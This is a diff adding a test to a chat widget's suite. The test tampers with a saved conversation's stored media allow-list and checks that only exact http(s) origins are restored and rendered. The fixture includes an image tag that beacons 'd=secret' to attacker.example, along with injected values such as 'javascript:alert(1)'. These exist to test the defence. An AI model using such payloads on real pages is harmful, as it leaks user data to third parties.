@@ -1,7 +1,7 @@
 import { aTimeout, expect, fixture, html, waitUntil } from '@open-wc/testing';
 import '../define.js';
 import type { IndigoChat } from '../components/indigo-chat/indigo-chat.js';
-import { $, botMessages, useFakeRelays, userMessages, welcomeChunks } from '../components/indigo-chat/fake-relay.test-helper.js';
+import { $, $$, botMessages, useFakeRelays, userMessages, welcomeChunks } from '../components/indigo-chat/fake-relay.test-helper.js';
 import { lazyTesting } from '../components/blocks/lazy-part.js';
 import { launch, type WidgetModule } from '../loader/launch.js';
 import { storageKey } from './storage.js';
@@ -228,5 +228,45 @@ describe('persistence with its code loaded on demand', () => {
       localStorage.removeItem(storageKey('/loader-probe', 'saved'));
       plain.remove();
     }
+  });
+});
+
+describe('a saved conversation edited by another script', () => {
+  it('restores only exact http(s) media origins: `*` or a URL with a path in storage lets no image load on render', async () => {
+    const r = relays.relay().queue([
+      { type: 'processing.start' },
+      {
+        type: 'text',
+        data: {
+          text: '<p><img src="https://attacker.example/p.gif?d=secret" alt="leak"> <img src="https://allowed.example/ok.png" alt="ok"></p>',
+        },
+      },
+      { type: 'processing.end' },
+    ]);
+    const id = `tampered-${++n}`;
+    const first = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id}></indigo-chat>`);
+    $<HTMLButtonElement>(first, '[part~="launcher"]')!.click();
+    await waitUntil(() => botMessages(first).length === 1 && first.conversation.transcript.status === 'idle', 'answer');
+    first.remove();
+    const key = storageKey(r.path, id);
+    await waitUntil(() => localStorage.getItem(key) !== null, 'saved');
+    const saved = JSON.parse(localStorage.getItem(key)!) as Record<string, unknown>;
+    saved['media'] = [
+      '*',
+      'https://attacker.example/any/path',
+      ' https://attacker.example',
+      'javascript:alert(1)',
+      'https://allowed.example',
+    ];
+    localStorage.setItem(key, JSON.stringify(saved));
+
+    const el = await fixture<IndigoChat>(html`<indigo-chat relay=${r.path} id=${id} mode="inline"></indigo-chat>`);
+    await waitUntil(() => botMessages(el).length === 1, 'restored');
+    await el.updateComplete;
+    expect(el.conversation.mediaOrigins).to.deep.equal(['https://allowed.example']);
+    const images = botMessages(el)[0]!.querySelectorAll('img');
+    expect([...images].map((i) => i.getAttribute('src'))).to.deep.equal(['https://allowed.example/ok.png']);
+    expect($$(el, '[part~="blocked-media"]').map((p) => p.textContent.trim())).to.deep.equal(['Show image “leak” from attacker.example']);
+    el.remove();
   });
 });
